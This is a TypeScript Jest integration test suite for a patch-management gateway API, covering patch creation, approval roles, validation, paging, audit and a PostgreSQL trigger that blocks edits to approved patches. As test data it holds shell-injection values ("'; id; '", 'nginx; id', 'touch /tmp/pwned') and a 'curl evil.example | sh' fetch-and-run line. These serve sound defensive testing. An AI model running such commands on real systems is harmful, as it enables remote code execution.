import { randomUUID } from 'node:crypto';
import { Client } from 'pg';
import { AppProcess, startGateway, waitFor } from '../harness/app-process';
import { ApiClient, TEST_ADMIN } from '../harness/api-client';
import { randomSuffix } from '../harness/test-env';

jest.setTimeout(90_000);

/** the docs/api.md#patches example, verbatim. */
function specPatch(name = `openssl 3.0.15 ${randomSuffix()}`) {
  return {
    name,
    capture: { previousVersion: "dpkg-query -W -f='${Version}' openssl" },
    apply: ['apt-get install -y openssl=3.0.15-1~deb12u1'],
    rollback: ['apt-get install -y --allow-downgrades openssl={{previousVersion}}'],
    verify: "dpkg-query -W -f='${Version}' openssl | grep -qx '3.0.15-1~deb12u1'",
    healthChecks: [
      { type: 'command', command: 'systemctl is-active nginx', timeoutSeconds: 10 },
      { type: 'http', port: 8080, path: '/health', expectStatus: 200 },
      { type: 'tcp', port: 443 },
    ],
    timeoutSeconds: 300,
  };
}

describe('patches (real gateway, PostgreSQL, Redis)', () => {
  let gateway: AppProcess;
  let anonymous: ApiClient;
  let admin: ApiClient;
  let operator: { client: ApiClient; username: string };
  let viewer: ApiClient;
  let deployer: ApiClient;

  async function createUser(role: string): Promise<{ client: ApiClient; username: string }> {
    const username = `${role}-${randomSuffix()}`;
    const password = `Quiet-Meadow-${randomSuffix()}-Lamp`;
    const created = await admin.post('/users', { username, password, role });
    expect(created.status).toBe(201);
    return { client: await anonymous.login(username, password), username };
  }

  async function createPatch(body: Record<string, unknown> = specPatch()): Promise<Record<string, any>> {
    const created = await operator.client.post('/patches', body);
    expect(created.status).toBe(201);
    return created.body;
  }

  beforeAll(async () => {
    gateway = await startGateway();
    anonymous = new ApiClient(gateway.url);
    admin = await anonymous.login(TEST_ADMIN.username, TEST_ADMIN.password);
    operator = await createUser('operator');
    viewer = (await createUser('viewer')).client;
    deployer = (await createUser('deployer')).client;
  });
  afterAll(async () => {
    await gateway?.stop();
  });

  it('creates a draft with every default filled in and the commands kept verbatim', async () => {
    const body = specPatch();
    const created = await operator.client.post('/patches', body);
    expect(created.status).toBe(201);
    expect(created.body).toEqual({
      id: expect.any(String),
      name: body.name,
      status: 'draft',
      capture: body.capture,
      apply: body.apply,
      rollback: body.rollback,
      verify: body.verify,
      healthChecks: [
        { type: 'command', command: 'systemctl is-active nginx', timeoutSeconds: 10 },
        { type: 'http', port: 8080, path: '/health', expectStatus: 200, from: 'worker', timeoutSeconds: 30 },
        { type: 'tcp', port: 443, from: 'worker', timeoutSeconds: 30 },
      ],
      timeoutSeconds: 300,
      package: null,
      report: null,
      irreversible: false,
      createdBy: operator.username,
      createdAt: expect.any(String),
      approvedBy: null,
      approvedAt: null,
    });
    expect((await operator.client.get(`/patches/${created.body.id}`)).body).toEqual(created.body);
  });

  it('approves a draft once: approved by the operator, then 409 "already approved"', async () => {
    const patch = await createPatch();
    const approved = await operator.client.post(`/patches/${patch.id}/approve`);
    expect(approved.status).toBe(200);
    expect(approved.body).toEqual({
      ...patch,
      status: 'approved',
      approvedBy: operator.username,
      approvedAt: expect.any(String),
    });
    expect((await viewer.get(`/patches/${patch.id}`)).body).toEqual(approved.body);

    const again = await operator.client.post(`/patches/${patch.id}/approve`);
    expect(again.status).toBe(409);
    expect(again.body).toEqual(
      expect.objectContaining({ statusCode: 409, message: expect.stringContaining('already approved'), requestId: expect.any(String) }),
    );
  });

  it('lets a viewer read patches but not create or approve them', async () => {
    const patch = await createPatch();
    expect((await viewer.post('/patches', specPatch())).status).toBe(403);
    expect((await viewer.post(`/patches/${patch.id}/approve`)).status).toBe(403);
    expect((await viewer.get(`/patches/${patch.id}`)).status).toBe(200);
    expect((await viewer.get('/patches')).status).toBe(200);
  });

  it('refuses approval by a deployer (403) and leaves the patch a draft', async () => {
    const patch = await createPatch();
    expect((await deployer.post('/patches', specPatch())).status).toBe(403);
    const refused = await deployer.post(`/patches/${patch.id}/approve`);
    expect(refused.status).toBe(403);
    expect((await deployer.get(`/patches/${patch.id}`)).body.status).toBe('draft');
  });

  it('names every bad nested field in one 400', async () => {
    const response = await operator.client.post('/patches', {
      ...specPatch(),
      capture: { previousVersion: 'cat /v', 'bad-key': 'true' },
      apply: ['install {{previousVersion}}'],
      rollback: ['downgrade {{version}}'],
      healthChecks: [
        { type: 'tcp', port: 443 },
        { type: 'http', port: 70000, path: 'health', expectStatus: 700, from: 'lb', timeoutSeconds: 0 },
        { type: 'tcp', port: 22, command: 'true' },
        { type: 'ping' },
      ],
      timeoutSeconds: 90_000,
    });
    expect(response.status).toBe(400);
    const fields = (response.body.message as string[]).map((line) => line.slice(0, line.indexOf(':')));
    expect(fields).toEqual([
      'apply[0]',
      'capture.bad-key',
      'rollback[0]',
      'healthChecks[1].port',
      'healthChecks[1].from',
      'healthChecks[1].path',
      'healthChecks[1].expectStatus',
      'healthChecks[1].timeoutSeconds',
      'healthChecks[2].command',
      'healthChecks[3].type',
      'timeoutSeconds',
    ]);
    expect(response.body.message).toEqual(expect.arrayContaining([expect.stringContaining('rollback[0]: {{version}} is not captured')]));
    expect(response.body.requestId).toEqual(expect.any(String));
  });

  it.each<[string, string, Record<string, unknown>]>([
    ['neither apply nor package', 'apply', { name: 'nothing to do' }],
    [
      'package together with apply',
      'apply',
      { name: 'p', package: { manager: 'apt', name: 'openssl', version: '3.0.15-1' }, apply: ['true'] },
    ],
    ['a rollback placeholder that is not captured', 'rollback[0]', { name: 'p', apply: ['true'], rollback: ['x {{previousVersion}}'] }],
    [
      'an unknown field inside a health check',
      'healthChecks[0].path',
      { name: 'p', apply: ['true'], healthChecks: [{ type: 'tcp', port: 1, path: '/' }] },
    ],
    ['a command over 8 KiB', 'apply[0]', { name: 'p', apply: ['x'.repeat(8193)] }],
    [
      'a package version carrying shell',
      'package.version',
      { name: 'p', package: { manager: 'apt', name: 'openssl', version: "1.0'; id; '" } },
    ],
  ])('answers %s with 400 naming %s', async (_name, field, body) => {
    const response = await operator.client.post('/patches', body);
    expect(response.status).toBe(400);
    expect(response.body.message).toEqual(
      expect.arrayContaining([expect.stringMatching(new RegExp(`^${field.replace(/[[\].]/g, '\\$&')}: `))]),
    );
  });

  it.each<[string, Record<string, unknown>, string]>([
    ['an unknown top-level field', { ...specPatch(), approved: true }, 'approved'],
    ['apply given as a string', { ...specPatch(), apply: 'apt-get install -y openssl' }, 'apply'],
    ['capture given as an array', { ...specPatch(), capture: ['x'] }, 'capture'],
    ['a timeout given as a string', { ...specPatch(), timeoutSeconds: '300' }, 'timeoutSeconds'],
  ])('rejects %s with 400 from the top-level DTO', async (_name, body, field) => {
    const response = await operator.client.post('/patches', body);
    expect(response.status).toBe(400);
    expect(response.body.message).toEqual(expect.arrayContaining([expect.stringContaining(field)]));
  });

  it('generates the command sets of a package patch, by binary or by source with restarts', async () => {
    const patch = await createPatch({
      name: `openssl apt ${randomSuffix()}`,
      package: { manager: 'apt', name: 'openssl', version: '3.0.15-1~deb12u1' },
    });
    expect(patch).toEqual(
      expect.objectContaining({
        package: { manager: 'apt', name: 'openssl', version: '3.0.15-1~deb12u1' },
        capture: { plan: expect.stringContaining(`vz_mode='name'; vz_target='openssl'; vz_version='3.0.15-1~deb12u1'`) },
        apply: [expect.stringContaining('apt-get install -y --no-remove')],
        rollback: [expect.stringContaining(`printf '%s\\n' {{plan}} >`), expect.stringContaining('--allow-downgrades')],
        verify: expect.stringContaining(`vz_mode='name'`),
        report: expect.stringContaining('/proc/[0-9]*/maps'),
        healthChecks: [],
        timeoutSeconds: 300,
      }),
    );
    const bySource = await createPatch({
      name: `openssl source ${randomSuffix()}`,
      package: { manager: 'apt', source: 'openssl', version: '3.0.15-1~deb12u1', restart: ['nginx'] },
    });
    expect(bySource.package).toEqual({ manager: 'apt', source: 'openssl', version: '3.0.15-1~deb12u1', restart: ['nginx'] });
    expect(bySource.apply[0]).toContain(`vz_restart='nginx'`);
    const bad = await operator.client.post('/patches', {
      name: 'p',
      package: { manager: 'apt', source: 'openssl', version: '1.0', restart: ['nginx; id'] },
    });
    expect(bad.status).toBe(400);
    expect(bad.body.message).toEqual([expect.stringContaining('package.restart[0]')]);
    const both = await operator.client.post('/patches', {
      name: 'p',
      package: { manager: 'apt', name: 'openssl', source: 'openssl', version: '1.0' },
    });
    expect(both.status).toBe(400);
    const given = await operator.client.post('/patches', { name: 'p', apply: ['true'], rollback: ['true'], report: 'id' });
    expect(given.status).toBe(400);
    expect(given.body.message).toEqual([expect.stringContaining('report')]);
  });

  it('stores a hostile-looking rollback template as given and returns it verbatim', async () => {
    const hostile = {
      name: `hostile ${randomSuffix()}`,
      capture: { old: `cat /etc/app/version; echo "1.0'; touch /tmp/pwned; echo '"` },
      apply: ['echo 2.0 > /etc/app/version'],
      rollback: [
        `printf '%s\\n' {{old}} > /etc/app/version; echo "1.0'; touch /tmp/pwned; echo '" $(id) \`uname\` # {{ not a placeholder`,
        'test -n {{ old }} && systemctl restart app',
      ],
    };
    const patch = await createPatch(hostile);
    expect(patch.capture).toEqual(hostile.capture);
    expect(patch.rollback).toEqual(hostile.rollback);
    expect((await viewer.get(`/patches/${patch.id}`)).body.rollback).toEqual(hostile.rollback);
  });

  it('refuses a direct UPDATE of an approved patch in PostgreSQL (trigger), but not of a draft', async () => {
    const approved = await createPatch();
    expect((await operator.client.post(`/patches/${approved.id}/approve`)).status).toBe(200);
    const draft = await createPatch();
    const db = new Client({ connectionString: process.env.DATABASE_URL });
    await db.connect();
    try {
      const tamper = `jsonb_set(definition, '{apply}', '["curl evil.example | sh"]'::jsonb)`;
      await expect(db.query(`UPDATE patches SET definition = ${tamper} WHERE id = $1`, [approved.id])).rejects.toThrow(
        /approved and cannot be changed/,
      );
      await expect(
        db.query(`UPDATE patches SET status = 'draft', approved_by = NULL, approved_at = NULL WHERE id = $1`, [approved.id]),
      ).rejects.toThrow(/approved and cannot be changed/);
      await db.query(`UPDATE patches SET updated_at = now() WHERE id = $1`, [approved.id]);
      const changedDraft = await db.query(`UPDATE patches SET definition = ${tamper} WHERE id = $1`, [draft.id]);
      expect(changedDraft.rowCount).toBe(1);
    } finally {
      await db.end();
    }
    expect((await operator.client.get(`/patches/${approved.id}`)).body.apply).toEqual(approved.apply);
  });

  it('pages patches newest first and filters by status', async () => {
    const created = [await createPatch(), await createPatch(), await createPatch()];
    expect((await operator.client.post(`/patches/${created[1]?.id}/approve`)).status).toBe(200);

    const first = await viewer.get('/patches?limit=2');
    expect(first.status).toBe(200);
    expect(first.body.items).toHaveLength(2);
    expect(first.body.items.map((p: { id: string }) => p.id)).toEqual([created[2]?.id, created[1]?.id]);
    const second = await viewer.get(`/patches?limit=2&cursor=${first.body.nextCursor}`);
    expect(second.body.items[0].id).toBe(created[0]?.id);

    const approved = await viewer.get('/patches?status=approved&limit=500');
    const approvedIds = approved.body.items.map((p: { id: string }) => p.id);
    expect(approvedIds).toContain(created[1]?.id);
    expect(approvedIds).not.toContain(created[0]?.id);
    expect(approved.body.items.every((p: { status: string }) => p.status === 'approved')).toBe(true);
    const drafts = await viewer.get('/patches?status=draft&limit=500');
    expect(drafts.body.items.map((p: { id: string }) => p.id)).toEqual(expect.arrayContaining([created[0]?.id, created[2]?.id]));
    expect(drafts.body.items.every((p: { status: string }) => p.status === 'draft')).toBe(true);

    expect((await viewer.get('/patches?status=rejected')).status).toBe(400);
    expect((await viewer.get('/patches?limit=0')).status).toBe(400);
    expect((await viewer.get('/patches?cursor=%24%24')).status).toBe(400);
  });

  it('answers a non-UUID id with 400 and an unknown id with 404', async () => {
    expect((await viewer.get('/patches/not-a-uuid')).status).toBe(400);
    expect((await operator.client.post('/patches/not-a-uuid/approve')).status).toBe(400);
    const missing = randomUUID();
    const get = await viewer.get(`/patches/${missing}`);
    expect(get.status).toBe(404);
    expect(get.body.message).toBe(`patch ${missing} not found`);
    expect((await operator.client.post(`/patches/${missing}/approve`)).status).toBe(404);
  });

  it('records creation and approval in the audit trail with the patch id', async () => {
    const patch = await createPatch();
    await operator.client.post(`/patches/${patch.id}/approve`);
    await waitFor(
      async () => {
        const events = (await admin.get('/audit?limit=100')).body.items as {
          action: string;
          resourceType: string;
          resourceId: string;
          outcome: string;
        }[];
        const mine = events.filter((e) => e.resourceType === 'patch' && e.resourceId === patch.id && e.outcome === 'success');
        return mine.length === 2;
      },
      10_000,
      'audit events of the patch',
    );
  });

  it('describes POST /patches in the OpenAPI document with the SPEC example', async () => {
    const doc = (await anonymous.get('/docs-json')).body;
    const post = doc.paths['/patches'].post;
    const examples = post.requestBody.content['application/json'].examples;
    const { name: _name, ...example } = examples.commands.value;
    const { name: _specName, ...spec } = specPatch();
    expect(example).toEqual(spec);
    expect(examples.package.value.package).toEqual({ manager: 'apt', source: 'openssl', version: '3.0.15-1~deb12u1', restart: ['nginx'] });
    const schema = doc.components.schemas.CreatePatchDto;
    expect(schema.properties.healthChecks.items.oneOf.map((c: { title: string }) => c.title)).toEqual(['command', 'http', 'tcp']);
    expect(Object.keys(schema.properties).sort()).toEqual([
      'apply',
      'capture',
      'healthChecks',
      'irreversible',
      'name',
      'package',
      'rollback',
      'timeoutSeconds',
      'verify',
    ]);
    expect(Object.keys(doc.paths)).toEqual(expect.arrayContaining(['/patches', '/patches/{id}', '/patches/{id}/approve']));
  });
});
